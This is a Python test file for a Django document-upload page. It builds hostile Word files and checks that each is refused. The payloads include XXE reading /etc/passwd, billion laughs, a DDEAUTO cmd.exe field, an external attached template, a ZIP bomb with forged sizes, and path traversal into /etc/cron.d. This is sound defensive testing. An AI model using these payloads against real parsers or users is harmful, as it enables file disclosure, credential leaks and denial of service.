"""Safe DOCX files (issue 15, item 5): each hostile Word document is built here with
zipfile from an otherwise valid one, uploaded through the real page as the secretariat,
and refused with a message in the reader's language, the form kept and nothing stored (no
version, no file under MEDIA_ROOT); a clean document with a hyperlink, an image and custom
XML is still accepted, published and served byte for byte."""

from __future__ import annotations

import functools
import hashlib
import io
import struct
import zipfile

import pytest
from django.urls import reverse
from django.utils import translation

from phases.documents import uploads
from phases.enums import DocumentStatus
from phases.models import Document, DocumentVersion
from tests.pages import client_for
from tests.test_documents import (
    CONTENT_TYPES,
    DOCUMENT_XML,
    DOCX_CT,
    RELS,
    create_form_data,
    new_document,
    text,
    upload,
)

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
SETTINGS_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"

EXTERNAL = "links to a file or address outside it"
DTD = "contains XML declarations (a DTD or entities)"
BOMB = "ZIP bomb"
TRAVERSAL = "whose name points outside the document"
ENCRYPTED = "encrypted or password-protected"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def rels(*relationships: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{REL_NS}">{"".join(relationships)}</Relationships>'
    )


def docx(parts: dict[str, bytes | str] | None = None, *, extra_types: str = "") -> bytes:
    """A minimal valid DOCX; ``parts`` adds parts or replaces the default ones."""
    contents: dict[str, bytes | str] = {
        "[Content_Types].xml": CONTENT_TYPES.format(main=uploads.WORD_MAIN, extra=extra_types),
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT_XML,
    }
    contents.update(parts or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in contents.items():
            zf.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def attached_template() -> bytes:
    """What Word writes for Developer ▸ Document Template, pointed at a stranger's server
    (opening the document fetches it, and may send the reader's Windows credentials)."""
    return docx(
        {
            "word/settings.xml": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
                f' xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>'
            ),
            "word/_rels/settings.xml.rels": rels(
                f'<Relationship Id="rId1" Type="{R}/attachedTemplate"'
                ' Target="http://templates.example.net/normal.dotm" TargetMode="External"/>'
            ),
            "word/_rels/document.xml.rels": rels(
                f'<Relationship Id="rId1" Type="{R}/settings" Target="settings.xml"/>'
            ),
        },
        extra_types=f'<Override PartName="/word/settings.xml" ContentType="{SETTINGS_TYPE}"/>\n',
    )


def image_target(target: str, mode: str = ' TargetMode="External"') -> bytes:
    return docx(
        {
            "word/_rels/document.xml.rels": rels(
                f'<Relationship Id="rId5" Type="{R}/image" Target="{target}"{mode}/>'
            )
        }
    )


XXE = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>"""
LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>"""
BARE_DTD = DOCUMENT_XML.replace("?>\n", '?>\n<!DOCTYPE w:document SYSTEM "http://x.example/d">\n')


def headers(data: bytes, name: str) -> tuple[int, int]:
    """Where ``name``'s local header and its central directory entry start."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    offset = archive.start_dir
    for info in archive.infolist():
        name_length, extra_length, comment_length = struct.unpack_from("<3H", data, offset + 28)
        if info.filename == name:
            return info.header_offset, offset
        offset += 46 + name_length + extra_length + comment_length
    raise KeyError(name)


def with_declared_size(data: bytes, name: str, declared: int) -> bytes:
    """The archive with ``name``'s uncompressed size rewritten, in its local header and in
    the central directory, to ``declared`` (its bytes and CRC untouched)."""
    local, central = headers(data, name)
    patched = bytearray(data)
    struct.pack_into("<L", patched, local + 22, declared)
    struct.pack_into("<L", patched, central + 24, declared)
    return bytes(patched)


@functools.cache
def lying_sizes() -> bytes:
    """A DOCX with an image part of 300 MB of zeros that says it is 1,000 bytes (written
    by zipfile, then its two size fields patched): the file itself is about 300 KB."""
    name = "word/media/image1.png"
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as zf, zf.open(name, "w") as part:
        zeros = b"\0" * (1024 * 1024)
        for _ in range(300):
            part.write(zeros)
    return with_declared_size(out.getvalue(), name, 1000)


def encrypted() -> bytes:
    """A DOCX whose styles part has the "encrypted" flag, in both of its headers."""
    data = docx({"word/styles.xml": DOCUMENT_XML})
    local, central = headers(data, "word/styles.xml")
    patched = bytearray(data)
    patched[local + 6] |= 0x1
    patched[central + 8] |= 0x1
    return bytes(patched)


def field(instruction: str) -> bytes:
    """A document whose one field has ``instruction`` split over two runs, as Word does."""
    half = len(instruction) // 2
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction[:half]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction[half:]}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return docx({"word/document.xml": DOCUMENT_XML.replace("<w:body>", "<w:body>" + body)})


HOSTILE = {
    "external-attached-template": (attached_template, EXTERNAL),
    "image-file-etc-passwd": (lambda: image_target("file:///etc/passwd"), EXTERNAL),
    "image-http-tracker": (lambda: image_target("http://pixel.example.org/p.png"), EXTERNAL),
    "internal-in-name-only": (lambda: image_target("file:///etc/passwd", ""), EXTERNAL),
    "internal-climbing-out": (lambda: image_target("../../../../etc/passwd", ""), EXTERNAL),
    "field-includepicture": (
        lambda: field(' INCLUDEPICTURE "http://pixel.example.org/p.png" \\d '),
        EXTERNAL,
    ),
    "field-ddeauto": (
        lambda: field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" '),
        EXTERNAL,
    ),
    "simple-field-includetext": (
        lambda: docx(
            {
                "word/document.xml": DOCUMENT_XML.replace(
                    "<w:p>", "<w:p><w:fldSimple w:instr=' INCLUDETEXT \"file:///etc/passwd\" '/>"
                )
            }
        ),
        EXTERNAL,
    ),
    "entity-in-document": (lambda: docx({"word/document.xml": XXE}), DTD),
    "billion-laughs": (lambda: docx({"word/document.xml": LAUGHS}), DTD),
    "dtd-in-document": (lambda: docx({"word/document.xml": BARE_DTD}), DTD),
    "dtd-in-utf16-styles": (
        lambda: docx({"word/styles.xml": XXE.replace('"UTF-8"', '"UTF-16"').encode("utf-16")}),
        DTD,
    ),
    "dtd-in-relationships": (
        lambda: docx({"_rels/.rels": RELS.replace("?>\n", "?>\n<!DOCTYPE r [<!ENTITY a 'b'>]>\n")}),
        DTD,
    ),
    "300-mb-declared-1000-bytes": (lying_sizes, BOMB),
    "too-many-members": (
        lambda: docx({f"word/media/p{i}.png": b"" for i in range(5001)}),
        BOMB,
    ),
    "nested-traversal": (
        lambda: docx({"word/media/../../../../etc/cron.d/evil": b"* * * * * root id"}),
        TRAVERSAL,
    ),
    "absolute-name": (lambda: docx({"/etc/evil.xml": "<x/>"}), TRAVERSAL),
    "backslash-traversal": (lambda: docx({"word\\..\\..\\evil.xml": "<x/>"}), TRAVERSAL),
    "encrypted-member": (encrypted, ENCRYPTED),
}


def stored_files(media) -> list:
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


@pytest.mark.parametrize("build, message", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_docx_is_refused_on_the_upload_page_and_nothing_is_stored(
    gcm, _media, build, message
):
    document = new_document(gcm, symbol="A/AC.1/2017/HOSTILE")
    data = build()
    assert len(data) < 2 * 1024 * 1024
    response = client_for("secretariat").post(
        reverse("documents-secretariat:upload", args=[document.pk]),
        {"language": "fr", "file": upload("résumé.docx", data, DOCX_CT)},
    )
    assert response.status_code == 422
    page = text(response)
    assert message in page
    assert '<option value="fr" selected>' in page  # the rest of the form is kept
    assert not DocumentVersion.objects.exists()
    assert stored_files(_media) == []


def test_the_lying_member_really_says_1000_bytes_and_holds_300_mb():
    data = lying_sizes()
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("word/media/image1.png")
    assert info.file_size == 1000
    assert len(data) < 1024 * 1024


def test_refusal_is_in_the_readers_language_and_the_new_document_form_keeps_its_fields(gcm, _media):
    client = client_for("secretariat")
    data = create_form_data(gcm)
    data["file"] = upload("résumé.docx", lying_sizes(), DOCX_CT)
    with translation.override("fr"):
        url = reverse("documents-secretariat:create")
    assert url.startswith("/fr/")
    response = client.post(url, data)
    assert response.status_code == 422
    page = text(response)
    assert "(« bombe ZIP ») ; il est refusé." in page
    assert 'value="A/AC.1/2017/TEST"' in page
    assert 'value="Summary of the human rights session"' in page
    assert not Document.objects.filter(symbol="A/AC.1/2017/TEST").exists()
    assert stored_files(_media) == []


def clean_docx() -> bytes:
    """What Word writes for a short summary with a link to the resolution, a picture and
    custom XML (reached with ``../`` from word/, which stays inside the package)."""
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 64
    return docx(
        {
            "word/document.xml": DOCUMENT_XML.replace(
                "<w:body>",
                '<w:body><w:p><w:hyperlink xmlns:r="' + R + '" r:id="rId2"><w:r>'
                "<w:t>A/RES/71/280</w:t></w:r></w:hyperlink></w:p>"
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                ' PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
            ),
            "word/_rels/document.xml.rels": rels(
                f'<Relationship Id="rId1" Type="{R}/settings" Target="settings.xml"/>',
                f'<Relationship Id="rId2" Type="{R}/hyperlink"'
                ' Target="https://undocs.org/A/RES/71/280" TargetMode="External"/>',
                f'<Relationship Id="rId3" Type="{R}/image" Target="media/image1.png"/>',
                f'<Relationship Id="rId5" Type="{R}/hyperlink"'
                ' Target="mailto:gcm@un.org" TargetMode="External"/>',
                f'<Relationship Id="rId6" Type="{R}/hyperlink"'
                ' Target="#_Toc1" TargetMode="External"/>',
                f'<Relationship Id="rId4" Type="{R}/customXml" Target="../customXml/item1.xml"/>',
            ),
            "word/settings.xml": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
            ),
            "word/media/image1.png": png,
            "customXml/item1.xml": "<b:Sources xmlns:b='urn:example'/>",
        },
        extra_types='<Default Extension="png" ContentType="image/png"/>\n'
        f'<Override PartName="/word/settings.xml" ContentType="{SETTINGS_TYPE}"/>\n',
    )


def test_clean_docx_is_still_accepted_published_and_served_as_uploaded(gcm, _media):
    document = new_document(gcm, symbol="A/AC.1/2017/CLEAN")
    staff = client_for("secretariat")
    data = clean_docx()
    response = staff.post(
        reverse("documents-secretariat:upload", args=[document.pk]),
        {"language": "en", "file": upload("summary.docx", data, DOCX_CT)},
    )
    assert response.status_code == 302
    version = document.versions.get(language="en")
    assert (version.file_kind, version.sha256) == ("docx", hashlib.sha256(data).hexdigest())
    assert len(stored_files(_media)) == 1
    assert (
        staff.post(reverse("documents-secretariat:publish", args=[document.pk])).status_code == 302
    )
    document.refresh_from_db()
    assert document.status == DocumentStatus.PUBLISHED
    public = client_for(None)
    assert "A/AC.1/2017/CLEAN" in text(public.get(reverse("documents:library")))
    download = public.get(reverse("documents:file", args=[version.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == DOCX_CT
    assert b"".join(download.streaming_content) == data


def test_a_page_field_and_a_hyperlink_field_are_not_fetching_fields(gcm):
    document = new_document(gcm, symbol="A/AC.1/2017/FIELDS")
    data = field(' HYPERLINK "https://undocs.org/A/RES/71/280" ')
    response = client_for("secretariat").post(
        reverse("documents-secretariat:upload", args=[document.pk]),
        {"language": "en", "file": upload("summary.docx", data, DOCX_CT)},
    )
    assert response.status_code == 302
    assert document.versions.get().file_kind == "docx"
